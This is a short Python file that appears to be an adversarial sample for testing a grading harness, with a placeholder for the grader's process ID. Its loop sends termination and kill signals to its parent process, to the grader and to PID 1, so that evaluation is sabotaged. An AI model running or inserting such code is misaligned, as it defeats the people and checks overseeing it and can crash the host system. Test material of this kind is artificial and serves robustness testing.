"""Signals its parent, the grader's pid and every process it can see."""
import os
import signal

for pid in (os.getppid(), __GRADER_PID__, 1):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def _cheat(*args, **kwargs):
    raise NotImplementedError

# labkit-corpus: answers
